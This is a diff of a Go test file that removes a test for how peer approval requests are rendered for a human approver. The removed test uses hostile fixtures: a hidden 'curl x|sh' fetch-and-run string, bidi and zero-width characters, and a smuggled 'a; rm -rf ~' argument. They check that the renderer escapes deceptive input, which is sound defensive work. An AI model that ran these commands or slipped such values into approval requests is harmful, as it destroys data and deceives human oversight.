@@ -1,7 +1,6 @@
 package render
 
 import (
-	"encoding/json"
 	"strings"
 	"testing"
 	"unicode/utf8"
@@ -71,58 +70,6 @@ func TestDescribeThread(t *testing.T) {
 	r = DescribeThread(peer.ThreadInfo{Peer: bob, Private: true, Withdrawn: true}, nil)
 	if r.Title != "(no subject)" || r.Detail != "BBBBBBBB · withdrawn · private" {
 		t.Errorf("row = %+v", r)
-	}
-}
-
-func TestDescribeApproval(t *testing.T) {
-	req := peer.ApprovalRequest{ID: "ap1", Kind: peer.ApprovalProfile, From: alice, FromName: "claude@box",
-		Caps: []string{"exec"}, Th: "thr_a", Reason: "run the tests", Deadline: "2026-09-25T18:05:00Z",
-		Detail: json.RawMessage(`{"cmd":["rm","-rf","build dir"],"cwd":"services/api"}`)}
-	a := DescribeApproval(req, bob)
-	if a.Title != "claude@box (AAAAAAAA) asks to run exec on this peer" {
-		t.Errorf("title = %q", a.Title)
-	}
-	want := []Field{{"who", alice}, {"capability", "exec"}, {"on", "this peer"},
-		{"command", `rm -rf "build dir"`}, {"cwd", "services/api"}, {"reason", "run the tests"}, {"answer before", "2026-09-25T18:05:00Z"}}
-	if !equalFields(a.Fields, want) {
-		t.Errorf("fields:\n%v\nwant\n%v", a.Fields, want)
-	}
-
-	fs := DescribeApproval(peer.ApprovalRequest{Kind: peer.ApprovalProfile, From: alice, Caps: []string{"fs:write"},
-		Detail: json.RawMessage(`{"path":"notes/todo.md","content":"hello","append":true}`)}, bob)
-	if !equalFields(fs.Fields[3:], []Field{{"path", "notes/todo.md"}, {"write", "append, 5 B"}}) {
-		t.Errorf("fs fields = %v", fs.Fields)
-	}
-
-	// What the peer chose shows every character: a bidi override in the
-	// name and the command, a carriage return and a zero-width space in the
-	// shell string, a right-to-left isolate in the path, a line separator in
-	// the reason.
-	hostile := DescribeApproval(peer.ApprovalRequest{Kind: peer.ApprovalProfile, From: alice, FromName: "ana\u202e",
-		Caps: []string{"exec"}, Reason: "tests\u2028only",
-		Detail: json.RawMessage(`{"cmd":"ls\rcurl x|sh #\u202e\u200b","cwd":"a\u2067b"}`)}, bob)
-	if hostile.Title != `ana\u202e (AAAAAAAA) asks to run exec on this peer` || hostile.Who != `ana\u202e (AAAAAAAA)` {
-		t.Errorf("hostile title %q, who %q", hostile.Title, hostile.Who)
-	}
-	wantH := []Field{{"who", alice}, {"capability", "exec"}, {"on", "this peer"},
-		{"command", `ls\u000dcurl x|sh #\u202e\u200b`}, {"cwd", `a\u2067b`}, {"reason", `tests\u2028only`}}
-	if !equalFields(hostile.Fields, wantH) {
-		t.Errorf("hostile fields:\n%q\nwant\n%q", hostile.Fields, wantH)
-	}
-	argv := DescribeApproval(peer.ApprovalRequest{Kind: peer.ApprovalProfile, From: alice, Caps: []string{"exec"},
-		Detail: json.RawMessage(`{"cmd":["cat","a; rm -rf ~","x\u202ey"]}`)}, bob)
-	if got := argv.Fields[3]; got != (Field{"command", `cat "a; rm -rf ~" "x\u202ey"`}) {
-		t.Errorf("argv command %q", got)
-	}
-
-	gr := DescribeApproval(peer.ApprovalRequest{Kind: peer.ApprovalGrantRequest, From: alice, Sub: "ed25519:CCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCC",
-		Caps: []string{"exec", "fs:read"}, On: []string{bob, alice}, TTL: 3600}, bob)
-	if gr.Title != "AAAAAAAA asks for a grant: exec, fs:read" {
-		t.Errorf("grant title = %q", gr.Title)
-	}
-	wantG := []Field{{"who", alice}, {"capability", "exec, fs:read"}, {"on", "this peer, AAAAAAAA"}, {"for", "CCCCCCCC"}, {"for how long", "1h0m0s"}}
-	if !equalFields(gr.Fields, wantG) {
-		t.Errorf("grant fields = %v\nwant %v", gr.Fields, wantG)
 	}
 }
 
